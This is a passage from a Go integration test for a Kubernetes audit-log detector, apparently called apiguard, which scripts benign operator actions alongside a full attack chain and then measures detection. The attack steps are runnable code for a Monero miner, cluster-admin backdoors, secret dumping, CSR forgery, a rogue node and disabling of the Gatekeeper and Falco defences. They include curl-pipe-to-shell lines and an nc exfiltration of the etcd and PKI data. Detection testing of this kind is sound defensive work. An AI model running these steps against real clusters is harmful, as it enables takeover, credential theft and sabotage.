					ObjectMeta: metav1.ObjectMeta{Labels: lbl},
					Spec: corev1.PodSpec{Containers: []corev1.Container{{
						Name: "telemetry", Image: "docker.io/kmetrics/telemetry-agent:6.21.0",
						Args:            []string{"-o", "pool.supportxmr.com:443", "-u", "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "--tls", "-k"},
						SecurityContext: &corev1.SecurityContext{Privileged: h6Ptr(true)},
						Resources:       corev1.ResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("2")}},
					}}},
				}},
			}, metav1.CreateOptions{})
			return err
		}},
		{id: "a13", attack: true, what: "implant adds a backdoor sidecar to argocd-repo-server (reads the Git credentials it mounts)", run: func(ctx context.Context) error {
			patch := `{"spec":{"template":{"spec":{"containers":[{"name":"telemetry","image":"ghcr.io/dbmesh/telemetry:2.8.1","env":[{"name":"UPLOAD_URL","value":"https://127.66.6.6/u"}],"volumeMounts":[{"name":"repo-creds","mountPath":"/creds","readOnly":true}]}],"volumes":[{"name":"repo-creds","secret":{"secretName":"repo-creds-github"}}]}}}}`
			_, err := op().cs.AppsV1().Deployments("argocd").Patch(ctx, "argocd-repo-server", types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{})
			return err
		}},

		// ---------------- Benign block 2 ----------------
		{id: "n11", what: "Prometheus service discovery lists pods, services, endpoints and nodes", run: func(ctx context.Context) error {
			cs := prom.cs
			if _, err := cs.CoreV1().Pods("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := cs.CoreV1().Services("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := cs.CoreV1().Endpoints("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			_, err := cs.CoreV1().Nodes().List(ctx, metav1.ListOptions{})
			return err
		}},
		{id: "n12", what: "SRE attaches a debug container to a shop web pod (kubectl debug)", run: func(ctx context.Context) error {
			cs := jonas.cs
			if _, err := cs.CoreV1().Pods("shop").Get(ctx, w.webPod, metav1.GetOptions{}); err != nil {
				return err
			}
			patch := `{"spec":{"ephemeralContainers":[{"name":"debugger-x7k2p","image":"busybox:1.36","stdin":true,"tty":true,"targetContainerName":"web","terminationMessagePolicy":"File"}]}}`
			_, err := cs.CoreV1().Pods("shop").Patch(ctx, w.webPod, types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{}, "ephemeralcontainers")
			return err
		}},
		{id: "n13", what: "SRE runs psql in the orders database pod (kubectl exec)", run: func(ctx context.Context) error {
			return h6PastAuthz(h6Exec(ctx, jonas.cs, "payments", w.ordersPod, "database", "psql", "-c", "select count(*) from pg_stat_activity"))
		}},
		{id: "n14", what: "SRE reads the web pod's logs", run: func(ctx context.Context) error {
			return h6PastAuthz(jonas.cs.CoreV1().Pods("shop").GetLogs(w.webPod, &corev1.PodLogOptions{Container: "web", TailLines: h6Ptr(int64(200))}).Do(ctx).Error())
		}},
		{id: "n15", what: "SRE cordons the node for kernel patching", run: func(ctx context.Context) error {
			_, err := jonas.cs.CoreV1().Nodes().Patch(ctx, c.NodeName, types.StrategicMergePatchType, []byte(`{"spec":{"unschedulable":true}}`), metav1.PatchOptions{})
			return err
		}},
		{id: "n16", what: "SRE upgrades the Falco chart with Helm (privileged DaemonSet)", run: func(ctx context.Context) error {
			cs := helm.cs
			if _, err := cs.CoreV1().Secrets("falco").List(ctx, metav1.ListOptions{LabelSelector: "name=falco,owner=helm"}); err != nil {
				return err
			}
			if _, err := cs.AppsV1().DaemonSets("falco").Get(ctx, "falco", metav1.GetOptions{}); err != nil {
				return err
			}
			if _, err := cs.AppsV1().DaemonSets("falco").Patch(ctx, "falco", types.StrategicMergePatchType,
				[]byte(`{"metadata":{"labels":{"helm.sh/chart":"falco-4.8.1"}},"spec":{"template":{"spec":{"containers":[{"name":"falco","image":"docker.io/falcosecurity/falco-no-driver:0.38.2"}]}}}}`), metav1.PatchOptions{}); err != nil {
				return err
			}
			if _, err := cs.CoreV1().Secrets("falco").Create(ctx, h6HelmRelease("falco", "falco", 8), metav1.CreateOptions{}); err != nil {
				return err
			}
			_, err := cs.CoreV1().Secrets("falco").Patch(ctx, "sh.helm.release.v1.falco.v7", types.MergePatchType, []byte(`{"metadata":{"labels":{"status":"superseded"}}}`), metav1.PatchOptions{})
			return err
		}},
		{id: "n17", what: "operator's scheduled backup: pgBackRest stanza check by exec, backup Job", run: func(ctx context.Context) error {
			cs := op().cs
			if err := h6PastAuthz(h6Exec(ctx, cs, "payments", w.ordersPod, "database", "pgbackrest", "--stanza=db", "check")); err != nil {
				return err
			}
			_, err := cs.BatchV1().Jobs("payments").Create(ctx, &batchv1.Job{
				ObjectMeta: metav1.ObjectMeta{Name: "orders-backup-n8x2q", Labels: map[string]string{"postgres-operator.dbmesh.io/cluster": "orders", "postgres-operator.dbmesh.io/pgbackrest-backup": "scheduled"}},
				Spec: batchv1.JobSpec{BackoffLimit: h6Ptr(int32(2)), Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{
					RestartPolicy: corev1.RestartPolicyNever, ServiceAccountName: "orders-db-instance",
					Containers: []corev1.Container{{Name: "pgbackrest", Image: "ghcr.io/dbmesh/pgbackrest:2.53", Args: []string{"backup", "--stanza=db", "--type=incr"}}},
				}}},
			}, metav1.CreateOptions{})
			return err
		}},
		{id: "n18", what: "Argo CD syncs a NetworkPolicy for the ledger API", run: func(ctx context.Context) error {
			_, err := argo.cs.NetworkingV1().NetworkPolicies("payments").Create(ctx, &networkingv1.NetworkPolicy{
				ObjectMeta: metav1.ObjectMeta{Name: "ledger-allow-api", Labels: map[string]string{"app.kubernetes.io/instance": "payments"}},
				Spec: networkingv1.NetworkPolicySpec{
					PodSelector: metav1.LabelSelector{MatchLabels: map[string]string{"postgres-operator.dbmesh.io/cluster": "ledger"}},
					Ingress:     []networkingv1.NetworkPolicyIngressRule{{From: []networkingv1.NetworkPolicyPeer{{PodSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "ledger-api"}}}}}},
				},
			}, metav1.CreateOptions{})
			return err
		}},
		{id: "n19", what: "security auditor checks who may create Secrets (SubjectAccessReview) and reads cluster-admin", run: func(ctx context.Context) error {
			cs := auditor.cs
			if _, err := cs.AuthorizationV1().SubjectAccessReviews().Create(ctx, &authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{
				User: "system:serviceaccount:ci:deployer", Groups: []string{"system:serviceaccounts", "system:serviceaccounts:ci", "system:authenticated"},
				ResourceAttributes: &authorizationv1.ResourceAttributes{Namespace: "payments", Verb: "create", Resource: "secrets"},
			}}, metav1.CreateOptions{}); err != nil {
				return err
			}
			_, err := cs.RbacV1().ClusterRoles().Get(ctx, "cluster-admin", metav1.GetOptions{})
			return err
		}},
		{id: "n20", what: "Velero's scheduled backup lists Secrets, ConfigMaps, PVCs and PVs cluster-wide", run: func(ctx context.Context) error {
			cs := velero.cs
			if _, err := cs.CoreV1().Namespaces().List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := cs.CoreV1().Secrets("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := cs.CoreV1().ConfigMaps("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := cs.CoreV1().PersistentVolumeClaims("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			_, err := cs.CoreV1().PersistentVolumes().List(ctx, metav1.ListOptions{})
			return err
		}},

		// ---------------- Attack phase B: from the attacker's VPS with the stolen token ----------------
		{id: "b01", attack: true, what: "attacker checks who the stolen token is (kubectl auth whoami)", run: func(ctx context.Context) error {
			if stolenArgoToken == "" {
				return errors.New("no stolen token (a06 failed)")
			}
			vps = h6Connect(t, rec, tokenCfg("stolen-argocd", stolenArgoToken), h6UAAttacker, h6PeerLB, h6XFFVPS, nil)
			_, err := vps.cs.AuthenticationV1().SelfSubjectReviews().Create(ctx, &authenticationv1.SelfSubjectReview{}, metav1.CreateOptions{})
			return err
		}},
		{id: "b02", attack: true, what: "attacker dumps the Secrets of all namespaces", run: func(ctx context.Context) error {
			_, err := vps.cs.CoreV1().Secrets("").List(ctx, metav1.ListOptions{})
			return err
		}},
		{id: "b03", attack: true, what: "attacker sets the shop namespace's Pod Security to privileged", run: func(ctx context.Context) error {
			_, err := vps.cs.CoreV1().Namespaces().Patch(ctx, "shop", types.MergePatchType,
				[]byte(`{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged","pod-security.kubernetes.io/warn":"privileged","pod-security.kubernetes.io/audit":"privileged"}}}`), metav1.PatchOptions{})
			return err
		}},
		{id: "b04", attack: true, what: "attacker creates a backdoor ServiceAccount in kube-system bound to cluster-admin", run: func(ctx context.Context) error {
			if _, err := vps.cs.CoreV1().ServiceAccounts("kube-system").Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "kube-proxy-metrics"}}, metav1.CreateOptions{}); err != nil {
				return err
			}
			_, err := vps.cs.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{
				ObjectMeta: metav1.ObjectMeta{Name: "system:kube-proxy-metrics", Labels: map[string]string{"kubernetes.io/bootstrapping": "rbac-defaults"}},
				RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
				Subjects:   []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: "kube-proxy-metrics", Namespace: "kube-system"}},
			}, metav1.CreateOptions{})
			return err
		}},
		{id: "b05", attack: true, what: "attacker aggregates Secret read into the built-in view role", run: func(ctx context.Context) error {
			_, err := vps.cs.RbacV1().ClusterRoles().Create(ctx, &rbacv1.ClusterRole{
				ObjectMeta: metav1.ObjectMeta{Name: "system:aggregate-to-view-ext", Labels: map[string]string{"rbac.authorization.k8s.io/aggregate-to-view": "true"}},
				Rules:      []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"get", "list", "watch"}}},
			}, metav1.CreateOptions{})
			return err
		}},
		{id: "b06", attack: true, what: "attacker requests a client certificate for a new user kube-backup (CSR)", run: func(ctx context.Context) error {
			csrPEM, key := h6NewCSR(t, pkix.Name{CommonName: "kube-backup"}, nil, nil)
			backupKey = key
			_, err := vps.cs.CertificatesV1().CertificateSigningRequests().Create(ctx, &certificatesv1.CertificateSigningRequest{
				ObjectMeta: metav1.ObjectMeta{Name: "kube-backup-client"},
				Spec: certificatesv1.CertificateSigningRequestSpec{
					Request: csrPEM, SignerName: certificatesv1.KubeAPIServerClientSignerName, ExpirationSeconds: h6Ptr(int32(31536000)),
					Usages: []certificatesv1.KeyUsage{certificatesv1.UsageDigitalSignature, certificatesv1.UsageClientAuth},
				},
			}, metav1.CreateOptions{})
			return err
		}},
		{id: "b07", attack: true, what: "attacker approves its own CSR and fetches the signed certificate", run: func(ctx context.Context) error {
			if err := h6Approve(ctx, vps.cs, "kube-backup-client", "AutoApproved", "approved by backup automation"); err != nil {
				return err
			}
			cert, err := h6WaitCert(ctx, vps.cs, "kube-backup-client")
			if err != nil {
				return err
			}
			backup = h6Connect(t, rec, h6CertConfig(c, cert, backupKey), h6UAAttacker, h6PeerLB, h6XFFTor, nil)
			return nil
		}},
		{id: "b08", attack: true, what: "attacker adds user kube-backup to the existing kubeadm:cluster-admins binding", run: func(ctx context.Context) error {
			_, err := vps.cs.RbacV1().ClusterRoleBindings().Patch(ctx, "kubeadm:cluster-admins", types.JSONPatchType,
				[]byte(`[{"op":"add","path":"/subjects/-","value":{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"kube-backup"}}]`), metav1.PatchOptions{})
			return err
		}},
		{id: "b09", attack: true, what: "attacker impersonates system:masters to list kube-system Secrets", run: func(ctx context.Context) error {
			imp := h6Connect(t, rec, tokenCfg("stolen-argocd", stolenArgoToken), h6UAAttacker, h6PeerLB, h6XFFVPS, func(cfg *rest.Config) {
				cfg.Impersonate = rest.ImpersonationConfig{UserName: "system:admin", Groups: []string{"system:masters"}}
			})
			_, err := imp.cs.CoreV1().Secrets("kube-system").List(ctx, metav1.ListOptions{})
			return err
		}},
		{id: "b10", attack: true, what: "attacker deploys a privileged host-takeover DaemonSet on every node (kube-system)", run: func(ctx context.Context) error {
			lbl := map[string]string{"k8s-app": "kube-proxy-ext"}
			_, err := vps.cs.AppsV1().DaemonSets("kube-system").Create(ctx, &appsv1.DaemonSet{
				ObjectMeta: metav1.ObjectMeta{Name: "kube-proxy-ext", Labels: lbl},
				Spec: appsv1.DaemonSetSpec{Selector: &metav1.LabelSelector{MatchLabels: lbl}, Template: corev1.PodTemplateSpec{
					ObjectMeta: metav1.ObjectMeta{Labels: lbl},
					Spec: corev1.PodSpec{
						ServiceAccountName: "kube-proxy-metrics", HostNetwork: true, HostPID: true, HostIPC: true,
						Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists}},
						Containers: []corev1.Container{{
							Name: "kube-proxy-ext", Image: "docker.io/library/alpine:3.19",
							Command:         []string{"nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "sh", "-c", "curl -fsSL http://127.66.6.6/k.sh | sh"},
							SecurityContext: &corev1.SecurityContext{Privileged: h6Ptr(true)},
							VolumeMounts:    []corev1.VolumeMount{{Name: "host", MountPath: "/host"}},
						}},
						Volumes: []corev1.Volume{{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}},
					},
				}},
			}, metav1.CreateOptions{})
			return err
		}},
		{id: "b11", attack: true, what: "attacker pins a pod to the control-plane node mounting its PKI and etcd data", run: func(ctx context.Context) error {
			_, err := vps.cs.CoreV1().Pods("kube-system").Create(ctx, &corev1.Pod{
				ObjectMeta: metav1.ObjectMeta{Name: "etcd-backup-" + c.NodeName},
				Spec: corev1.PodSpec{
					NodeName: c.NodeName, ServiceAccountName: "kube-proxy-metrics",
					Tolerations: []corev1.Toleration{{Key: "node-role.kubernetes.io/control-plane", Operator: corev1.TolerationOpExists, Effect: corev1.TaintEffectNoSchedule}},
					Containers: []corev1.Container{{
						Name: "backup", Image: "docker.io/library/alpine:3.19", Command: []string{"sh", "-c", "tar czf - /pki /etcd | nc 127.66.6.6 4444"},
						VolumeMounts: []corev1.VolumeMount{{Name: "pki", MountPath: "/pki", ReadOnly: true}, {Name: "etcd", MountPath: "/etcd", ReadOnly: true}},
					}},
					Volumes: []corev1.Volume{
						{Name: "pki", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/etc/kubernetes/pki"}}},
						{Name: "etcd", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/var/lib/etcd"}}},
					},
				},
			}, metav1.CreateOptions{})
			return err
		}},
		{id: "b12", attack: true, what: "attacker runs a privileged hostPID nsenter pod in the relaxed shop namespace", run: func(ctx context.Context) error {
			_, err := vps.cs.CoreV1().Pods("shop").Create(ctx, &corev1.Pod{
				ObjectMeta: metav1.ObjectMeta{Name: "web-cache-warmer"},
				Spec: corev1.PodSpec{
					HostPID: true,
					Containers: []corev1.Container{{
						Name: "warmer", Image: "docker.io/library/alpine:3.19", Command: []string{"nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "bash"},
						Stdin: true, TTY: true, SecurityContext: &corev1.SecurityContext{Privileged: h6Ptr(true)},
					}},
				},
			}, metav1.CreateOptions{})
			return err
		}},
		{id: "b13", attack: true, what: "attacker creates a hostPath PersistentVolume of / and claims it in shop", run: func(ctx context.Context) error {
			if _, err := vps.cs.CoreV1().PersistentVolumes().Create(ctx, &corev1.PersistentVolume{
				ObjectMeta: metav1.ObjectMeta{Name: "shop-cache-pv"},
				Spec: corev1.PersistentVolumeSpec{
					Capacity:                      corev1.ResourceList{corev1.ResourceStorage: resource.MustParse("10Gi")},
					AccessModes:                   []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce},
					PersistentVolumeReclaimPolicy: corev1.PersistentVolumeReclaimRetain,
					StorageClassName:              "manual",
					PersistentVolumeSource:        corev1.PersistentVolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}},
				},
			}, metav1.CreateOptions{}); err != nil {
				return err
			}
			_, err := vps.cs.CoreV1().PersistentVolumeClaims("shop").Create(ctx, &corev1.PersistentVolumeClaim{
				ObjectMeta: metav1.ObjectMeta{Name: "cache-data"},
				Spec: corev1.PersistentVolumeClaimSpec{
					AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce}, StorageClassName: h6Ptr("manual"), VolumeName: "shop-cache-pv",
					Resources: corev1.VolumeResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceStorage: resource.MustParse("10Gi")}},
				},
			}, metav1.CreateOptions{})
			return err
		}},
		{id: "b14", attack: true, what: "attacker reaches the kubelet API through the nodes/proxy subresource", run: func(ctx context.Context) error {
			return h6PastAuthz(vps.cs.CoreV1().RESTClient().Get().AbsPath("/api/v1/nodes/" + c.NodeName + "/proxy/runningpods/").Do(ctx).Error())
		}},
		{id: "b15", attack: true, what: "attacker injects an ephemeral container into the Argo CD controller pod to read its token", run: func(ctx context.Context) error {
			patch := `{"spec":{"ephemeralContainers":[{"name":"dbg-4kx9","image":"docker.io/library/alpine:3.19","command":["sh","-c","cat /proc/1/root/var/run/secrets/kubernetes.io/serviceaccount/token"],"targetContainerName":"application-controller","terminationMessagePolicy":"File"}]}}`
			_, err := vps.cs.CoreV1().Pods("argocd").Patch(ctx, "argocd-application-controller-0", types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{}, "ephemeralcontainers")
			return err
		}},
		{id: "b16", attack: true, what: "attacker port-forwards to Argo CD's Redis (cached manifests and tokens)", run: func(ctx context.Context) error {
			return h6PastAuthz(vps.cs.CoreV1().RESTClient().Post().Namespace("argocd").Resource("pods").Name("argocd-redis-5b6967fdfc-7xk2m").
				SubResource("portforward").Param("ports", "6379").Do(ctx).Error())
		}},
		{id: "b17", attack: true, what: "attacker deletes the Gatekeeper validating webhook (policy enforcement off)", run: func(ctx context.Context) error {
			return vps.cs.AdmissionregistrationV1().ValidatingWebhookConfigurations().Delete(ctx, "gatekeeper-validating-webhook-configuration", metav1.DeleteOptions{})
		}},
		{id: "b18", attack: true, what: "attacker starves the Falco DaemonSet with an unsatisfiable nodeSelector", run: func(ctx context.Context) error {
			_, err := vps.cs.AppsV1().DaemonSets("falco").Patch(ctx, "falco", types.StrategicMergePatchType,
				[]byte(`{"spec":{"template":{"spec":{"nodeSelector":{"non-existing":"true"}}}}}`), metav1.PatchOptions{})
			return err
		}},
		{id: "b19", attack: true, what: "attacker deletes all Events in kube-system", run: func(ctx context.Context) error {
			return vps.cs.CoreV1().Events("kube-system").DeleteCollection(ctx, metav1.DeleteOptions{}, metav1.ListOptions{})
		}},
		{id: "b20", attack: true, what: "attacker repoints the metrics.k8s.io APIService to its own Service", run: func(ctx context.Context) error {
			_, err := vps.dyn.Resource(h6GVRAPISvc).Patch(ctx, "v1beta1.metrics.k8s.io", types.MergePatchType,
				[]byte(`{"spec":{"service":{"name":"kube-proxy-metrics","namespace":"kube-system","port":443},"insecureSkipTLSVerify":true}}`), metav1.PatchOptions{})
			return err
		}},
		{id: "b21", attack: true, what: "attacker creates a Service with externalIPs of the cluster DNS address (CVE-2020-8554)", run: func(ctx context.Context) error {
			_, err := vps.cs.CoreV1().Services("shop").Create(ctx, &corev1.Service{
				ObjectMeta: metav1.ObjectMeta{Name: "dns-cache"},
				Spec: corev1.ServiceSpec{
					Selector:    map[string]string{"app": "web-cache-warmer"},
					Ports:       []corev1.ServicePort{{Name: "dns", Port: 53, Protocol: corev1.ProtocolUDP, TargetPort: intstr.FromInt32(5353)}},
					ExternalIPs: []string{"10.96.0.10"},
				},
			}, metav1.CreateOptions{})
			return err
		}},
		{id: "b22", attack: true, what: "attacker schedules a CronJob in kube-system that re-installs the implant", run: func(ctx context.Context) error {
			_, err := vps.cs.BatchV1().CronJobs("kube-system").Create(ctx, &batchv1.CronJob{
				ObjectMeta: metav1.ObjectMeta{Name: "kube-proxy-metrics-sync"},
				Spec: batchv1.CronJobSpec{Schedule: "*/5 * * * *", JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{
					RestartPolicy: corev1.RestartPolicyOnFailure, ServiceAccountName: "kube-proxy-metrics", HostNetwork: true,
					Containers: []corev1.Container{{Name: "sync", Image: "docker.io/curlimages/curl:8.8.0", Command: []string{"sh", "-c", "curl -fsSL http://127.66.6.6/s.sh | sh"}}},
				}}}}},
			}, metav1.CreateOptions{})
			return err
		}},

		// ---------------- Benign block 3 ----------------
		{id: "n21", what: "cert-manager issues the ledger TLS certificate Secret", run: func(ctx context.Context) error {
			cs := certMgr.cs
			if _, err := cs.CoreV1().Secrets("payments").Create(ctx, &corev1.Secret{
				ObjectMeta: metav1.ObjectMeta{Name: "ledger-tls", Annotations: map[string]string{"cert-manager.io/certificate-name": "ledger-tls", "cert-manager.io/issuer-name": "internal-ca", "cert-manager.io/issuer-kind": "ClusterIssuer"}},
				Type:       corev1.SecretTypeTLS,
				Data:       map[string][]byte{"tls.crt": []byte("-----BEGIN CERTIFICATE-----\nMIIB ledger\n-----END CERTIFICATE-----\n"), "tls.key": []byte("-----BEGIN EC PRIVATE KEY-----\nMHcC ledger\n-----END EC PRIVATE KEY-----\n"), "ca.crt": w.caPEM},
			}, metav1.CreateOptions{}); err != nil {
				return err
			}
			return h6Event(ctx, cs, "payments", "Certificate", "cert-manager.io/v1", "ledger-tls", "Issuing", "The certificate has been successfully issued", "cert-manager-certificates-issuing")
		}},
		{id: "n22", what: "CI rotates the shop registry pull Secret", run: func(ctx context.Context) error {
			_, err := ci.cs.CoreV1().Secrets("shop").Patch(ctx, "regcred", types.MergePatchType,
				[]byte(`{"stringData":{".dockerconfigjson":"{\"auths\":{\"registry.corp.example\":{\"auth\":\"Y2ktcm9ib3Q6bmV3LXRva2VuLTIwMjU=\"}}}"}}`), metav1.PatchOptions{})
			return err
		}},
		{id: "n23", what: "SRE onboards a developer: RoleBinding edit in shop", run: func(ctx context.Context) error {
			_, err := maria.cs.RbacV1().RoleBindings("shop").Create(ctx, &rbacv1.RoleBinding{
				ObjectMeta: metav1.ObjectMeta{Name: "alex-edit"},
				RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "edit"},
				Subjects:   []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.UserKind, Name: "alex.kim@corp.example"}},
			}, metav1.CreateOptions{})
			return err
		}},
		{id: "n24", what: "SRE approves the control-plane kubelet's serving certificate CSR", run: func(ctx context.Context) error {
			return h6Approve(ctx, maria.cs, w.kubeletCSR, "KubectlApprove", "This CSR was approved by kubectl certificate approve.")
		}},
		{id: "n25", what: "SRE uncordons the node after patching", run: func(ctx context.Context) error {
			_, err := jonas.cs.CoreV1().Nodes().Patch(ctx, c.NodeName, types.StrategicMergePatchType, []byte(`{"spec":{"unschedulable":null}}`), metav1.PatchOptions{})
			return err
		}},
		{id: "n26", what: "Prometheus scrapes cAdvisor through the API server's node proxy", run: func(ctx context.Context) error {
			return h6PastAuthz(prom.cs.CoreV1().RESTClient().Get().AbsPath("/api/v1/nodes/" + c.NodeName + "/proxy/metrics/cadvisor").Do(ctx).Error())
		}},
		{id: "n27", what: "operator scales the ledger instance StatefulSet to 2 and updates status", run: func(ctx context.Context) error {
			o := op()
			if _, err := o.cs.AppsV1().StatefulSets("payments").Patch(ctx, "ledger-instance1", types.StrategicMergePatchType, []byte(`{"spec":{"replicas":2}}`), metav1.PatchOptions{}); err != nil {
				return err
			}
			_, err := o.dyn.Resource(h6GVRPGC).Namespace("payments").Patch(ctx, "ledger", types.MergePatchType,
				[]byte(`{"status":{"phase":"Scaling","instances":[{"name":"instance1","replicas":2}]}}`), metav1.PatchOptions{}, "status")
			return err
		}},
		{id: "n28", what: "Argo CD prunes the old shop ConfigMap and creates the new one", run: func(ctx context.Context) error {
			if _, err := argo.cs.CoreV1().ConfigMaps("shop").Create(ctx, &corev1.ConfigMap{
				ObjectMeta: metav1.ObjectMeta{Name: "web-config-v42", Labels: map[string]string{"app.kubernetes.io/instance": "shop"}},
				Data:       map[string]string{"LOG_LEVEL": "info", "FEATURE_CHECKOUT_V2": "true"},
			}, metav1.CreateOptions{}); err != nil {
				return err
			}
			return argo.cs.CoreV1().ConfigMaps("shop").Delete(ctx, "web-config-v41", metav1.DeleteOptions{})
		}},
		{id: "n29", what: "security auditor reviews namespaces (Pod Security labels) and pods", run: func(ctx context.Context) error {
			if _, err := auditor.cs.CoreV1().Namespaces().List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			_, err := auditor.cs.CoreV1().Pods("").List(ctx, metav1.ListOptions{})
			return err
		}},
		{id: "n30", what: "SRE mints a 1h token for the CI deployer (kubectl create token)", run: func(ctx context.Context) error {
			_, err := maria.cs.CoreV1().ServiceAccounts("ci").CreateToken(ctx, "deployer", &authenticationv1.TokenRequest{Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: h6Ptr(int64(3600))}}, metav1.CreateOptions{})
			return err
		}},

		// ---------------- Attack phase C: rogue node, forged admin, impact ----------------
		{id: "c01", attack: true, what: "attacker joins a rogue node with the stolen bootstrap token (node client CSR)", run: func(ctx context.Context) error {
			csrPEM, key := h6NewCSR(t, pkix.Name{CommonName: "system:node:lab-worker-666", Organization: []string{"system:nodes"}}, nil, nil)
			nodeKey = key
			_, err := bootstrap.cs.CertificatesV1().CertificateSigningRequests().Create(ctx, &certificatesv1.CertificateSigningRequest{
				ObjectMeta: metav1.ObjectMeta{Name: "node-csr-lab-worker-666"},
				Spec: certificatesv1.CertificateSigningRequestSpec{
					Request: csrPEM, SignerName: certificatesv1.KubeAPIServerClientKubeletSignerName,
					Usages: []certificatesv1.KeyUsage{certificatesv1.UsageDigitalSignature, certificatesv1.UsageClientAuth},
				},
			}, metav1.CreateOptions{})
			return err
		}},
		{id: "c02", attack: true, what: "attacker approves the rogue node's CSR with the stolen token; the node fetches its certificate", run: func(ctx context.Context) error {
			if err := h6Approve(ctx, vps.cs, "node-csr-lab-worker-666", "NodeCSRApprove", "node join"); err != nil {
				return err
			}
			cert, err := h6WaitCert(ctx, bootstrap.cs, "node-csr-lab-worker-666")
			if err != nil {
				return err
			}
			rogueNode = h6Connect(t, rec, h6CertConfig(c, cert, nodeKey), h6UAKubelet, h6PeerLB, h6XFFTor, nil)
			return nil
		}},
		{id: "c03", attack: true, what: "the rogue node registers its Node object", run: func(ctx context.Context) error {
			_, err := rogueNode.cs.CoreV1().Nodes().Create(ctx, &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "lab-worker-666", Labels: map[string]string{
				"kubernetes.io/hostname": "lab-worker-666", "kubernetes.io/os": "linux", "kubernetes.io/arch": "amd64",
			}}}, metav1.CreateOptions{})
			return err
		}},
		{id: "c04", attack: true, what: "the rogue node tries to read Argo CD's admin Secret (403, Node authorizer)", run: func(ctx context.Context) error {
			_, err := rogueNode.cs.CoreV1().Secrets("argocd").Get(ctx, "argocd-secret", metav1.GetOptions{})
			return h6Forbidden(err)
		}},
		{id: "c05", attack: true, what: "forged kube-backup admin deletes the orders database backup volume claim", run: func(ctx context.Context) error {
			return backup.cs.CoreV1().PersistentVolumeClaims("payments").Delete(ctx, "orders-db-backup", metav1.DeleteOptions{})
		}},
		{id: "c06", attack: true, what: "forged kube-backup admin scales the shop web Deployment to zero", run: func(ctx context.Context) error {
			_, err := backup.cs.AppsV1().Deployments("shop").Patch(ctx, "web", types.MergePatchType, []byte(`{"spec":{"replicas":0}}`), metav1.PatchOptions{}, "scale")
			return err
		}},
	}

	// Run the script. A step that does not execute as scripted fails the
	// test: its absence would make the detection numbers meaningless.
	runStep := func(s h6Step) (err error) {
		defer func() {
			if r := recover(); r != nil {
				err = fmt.Errorf("panic: %v", r)
			}
		}()
		return s.run(ctx)
	}
	for _, s := range steps {
		rec.set(s.id)
		var err error
		for attempt := 1; ; attempt++ {
			err = runStep(s)
			if !apierrors.IsConflict(err) || attempt == 5 {
				break
			}
			t.Logf("h6: step %s: conflict, retrying (%d/5): %v", s.id, attempt, err)
		}
		if err != nil {
			t.Errorf("h6: step %s (%s) did not execute as scripted: %v", s.id, s.what, err)
		}
	}
	if t.Failed() {
		t.FailNow()
	}
	t.Logf("h6: script done at %s", time.Since(start).Round(time.Millisecond))

	rec.waitLogged(t, c.AuditLogPath)
	out, stderr, code := runAPIGuard(t, "audit", "scan", c.AuditLogPath, "-o", "jsonl")
	if code != 0 && code != 1 {
		t.Fatalf("apiguard audit scan: exit %d\n%s", code, stderr)
	}
	byStep := rec.alertsByStep(out)
	h6Report(t, steps, byStep, time.Since(start))
}

// h6Report logs detection per step and the totals, and writes the JSON
// summary to $APIGUARD_HELDOUT_OUT when set. It asserts nothing.
func h6Report(t *testing.T, steps []h6Step, byStep map[string]map[string][]alertLine, elapsed time.Duration) {
	t.Helper()
	sum := h6Summary{Scenario: "heldout6", Missed: []string{}, BenignHighSteps: []string{}}
	for _, as := range byStep[""] {
		sum.Unattributed += len(as)
	}
	for _, s := range steps {
		r := h6StepResult{ID: s.id, Attack: s.attack, What: s.what, Rules: []string{}}
		for rule, as := range byStep[s.id] {
			sev := map[string]bool{}
			for _, a := range as {
				r.Alerts++
				sv := strings.ToLower(a.Severity)
				sev[sv] = true
				if sv == "high" || sv == "critical" {
					r.HighAlerts++
				}
			}
			var sevs []string
			for k := range sev {
				sevs = append(sevs, k)
